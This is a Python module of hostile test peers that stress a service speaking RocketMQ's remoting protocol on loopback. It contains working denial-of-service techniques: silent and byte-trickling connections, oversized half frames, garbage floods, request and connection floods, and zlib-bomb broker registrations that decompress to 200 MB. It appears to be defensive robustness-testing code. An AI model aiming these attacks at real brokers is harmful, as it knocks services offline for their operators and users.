"""Hostile peers of the port that speaks RocketMQ's protocol.

``python -m tools.faults.attack.remoting_peers NAME PORT SECONDS`` attacks loopback only.
"""

from __future__ import annotations

import os
import struct
import sys
import time
import zlib
from collections.abc import Callable
from contextlib import suppress

from support.rocketmq import frame
from tools.faults.load.frames import connections, flood, hold

REGISTER_BROKER, ALL_TOPICS, ROUTE = 103, 206, 105
CONNECTIONS = 300
FLOOD_CONNECTIONS = 5_000
BOMB_BYTES = 200_000_000


def silent(port: int, seconds: float) -> None:
    """Connections that say nothing."""
    hold(port, seconds, CONNECTIONS, b"")


def trickling(port: int, seconds: float) -> None:
    """Frames of which a byte comes now and then."""
    request = frame(ROUTE, {"topic": "TopicTest"})
    with connections(port, 100, b"") as opened:
        for byte in request:
            for sock in opened:
                with suppress(OSError):
                    sock.send(bytes((byte,)))
            time.sleep(seconds / len(request))


def half_frames(port: int, seconds: float) -> None:
    """Frames that declare 16 MB, of which half a megabyte comes."""
    hold(port, seconds, 100, struct.pack(">II", 16_000_000, 100) + bytes(500_000))


def garbage(port: int, seconds: float) -> None:
    """Bytes without any sense."""
    flood(port, seconds, 20, b"", lambda _: os.urandom(2_000))


def not_reading(port: int, seconds: float) -> None:
    """Requests for all topics, whose answers nobody takes."""
    hold(port, seconds, 50, frame(ALL_TOPICS) * 2_000)


def requests(port: int, seconds: float) -> None:
    """Requests as fast as they can be sent; the answers are read."""
    asked = frame(ROUTE, {"topic": "TopicTest"}) * 20
    flood(port, seconds, 8, b"", lambda _: asked)


def zlib_bombs(port: int, seconds: float) -> None:
    """Registrations that unpack to 200 MB."""
    fields = {"brokerName": "b", "brokerAddr": "127.0.0.1:1", "clusterName": "c", "brokerId": "0", "compressed": "true"}
    bomb = frame(REGISTER_BROKER, fields, zlib.compress(bytes(BOMB_BYTES)))
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        with connections(port, 1, bomb) as opened:
            for sock in opened:
                sock.settimeout(2)
                with suppress(OSError):
                    sock.recv(65_536)


def connection_flood(port: int, seconds: float) -> None:
    """Connections as fast as they can be opened."""
    until, count = time.monotonic() + seconds, 0
    while time.monotonic() < until and count < FLOOD_CONNECTIONS:
        with connections(port, 100, frame(ROUTE, {"topic": "TopicTest"})):
            count += 100


ATTACKS: dict[str, Callable[[int, float], None]] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (*(silent, trickling, half_frames, garbage, not_reading, requests, zlib_bombs, connection_flood),)
}


if __name__ == "__main__":
    name, port_text, seconds_text = sys.argv[1:]
    ATTACKS[name](int(port_text), float(seconds_text))
